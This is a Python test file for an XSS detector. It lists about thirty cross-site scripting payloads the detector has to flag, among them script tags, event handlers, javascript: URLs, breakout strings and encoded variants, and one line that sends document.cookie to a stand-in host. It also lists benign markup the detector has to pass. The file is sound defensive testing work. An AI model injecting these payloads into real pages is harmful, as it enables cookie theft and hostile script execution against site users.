"""XSS detector: active HTML and script content only."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from otel_kit.signals.security.decoding import decode
from otel_kit.signals.security.html import detect


@pytest.mark.parametrize(
    ("value", "pattern"),
    [
        ("<script>fetch('//x.example/'+document.cookie)</script>", "script_tag"),
        ("<SCRIPT SRC=//x.example/a.js></SCRIPT>", "script_tag"),
        ("</title><script>go()</script>", "script_tag"),
        ("<img src=nope onerror=go()>", "event_handler"),
        ("<svg/onload=go()>", "event_handler"),
        ("<custom-tag tabindex=1 onfocusin=go() autofocus>", "event_handler"),
        ("<body\nonpageshow='go()'>", "event_handler"),
        ("<img src=x onerror=go()", "event_handler"),  # unclosed: the page supplies the ">"
        ("<!--<b>--><img src=x onerror=go()>", "event_handler"),
        ("<a href=\"jav&#x09;ascript:go()\">x</a>", "script_url"),
        ("<a href='&#106;avascript:go()'>x</a>", "script_url"),
        ("<iframe src=\"data:text/html;base64,PGI+\"></iframe>", "script_url"),
        ("<iframe src=//x.example/phish></iframe>", "active_tag"),
        ("<form action=javascript:go()><input type=submit>", "script_url"),
        ("<object data=//x.example/a.swf>", "active_tag"),
        ("<embed src=//x.example/a.swf>", "active_tag"),
        ("<meta http-equiv=refresh content=\"0;url=javascript:go()\">", "script_url"),
        ("<div style=\"width:expression(go())\">", "css_expression"),
        ("javascript:go()", "script_url"),
        ("  JaVaScRiPt:go()", "script_url"),
        ("data:text/html,<b>hi</b>", "script_url"),
        ("?next=javascript:go()", "script_url"),
        ("\" onmouseover=\"go()", "attribute_breakout"),
        ("' autofocus onfocus=go() x='", "attribute_breakout"),
        ("';alert(1)//", "script_breakout"),
        ("\"-confirm(7)-\"", "script_breakout"),
        ("alert(document.domain)", "dom_sink"),
        ("setTimeout(location.hash.slice(1))", "dom_sink"),
        ("%3Cscript%3Ego()%3C/script%3E", "script_tag"),
        ("&lt;img src=x onerror=go()&gt;", "event_handler"),
        ("\\u003cimg src=x onerror=go()\\u003e", "event_handler"),
        ("\uff1cscript\uff1ego()\uff1c/script\uff1e", "script_tag"),
    ],
)
def test_active_content_detected(value: str, pattern: str) -> None:
    """Each rule fires on active content, after decoding."""
    found = detect(decode(value))
    assert found is not None, value
    assert found[0] == pattern, (value, found)


@pytest.mark.parametrize(
    "value",
    [
        "Use **bold** and `code` in markdown", "# Heading\n\n- item <br> next", "<b>bold</b> and <i>italic</i>",
        "<img src=\"https://example.com/logo.png\" alt=\"Logo\" width=\"30%\">", "<a href=\"https://example.com/docs\">docs</a>",
        "<p align=\"center\"><strong>Contributing</strong></p>", "Signed-off-by: Ann <ann@example.com>", "USE <database>",
        "<https://example.com/autolink>", "if a < b and c > d then", "x<y", "JavaScript: The Good Parts (2008)",
        "I'm on it; one moment", "data: 5 rows", "the alert system for seniors", "prompt engineering course",
        "Download data:image/png is an inline image", "online=yes", "onion=3 carrots", "<online>", "<a onion>",
        "Please confirm (yes/no)", "eval function python", "document management",
    ],
)
def test_markup_and_prose_are_not_attacks(value: str) -> None:
    """Markdown, inline HTML without active content and prose are not XSS."""
    assert detect(decode(value)) is None, (value, detect(decode(value)))


def test_tag_scan_is_a_single_forward_pass() -> None:
    """A run of unclosed tags is read once: the finding at the end is still found."""
    value = "<a " * 3000 + "<img src=x onerror=go()>"
    assert detect(value) is not None


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=400))
def test_never_raises_on_text(value: str) -> None:
    """Arbitrary text never raises."""
    detect(value)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(["<", ">", "/", "a", "script", "img", " ", "on", "load", "=", "\"", "'", "`", "javascript:", "<!--", "-->", "&#", "x", "(", ")", "\\u003c", "style"]), max_size=60))
def test_never_raises_on_html_soup(parts: list[str]) -> None:
    """Tag soup never raises."""
    detect("".join(parts))
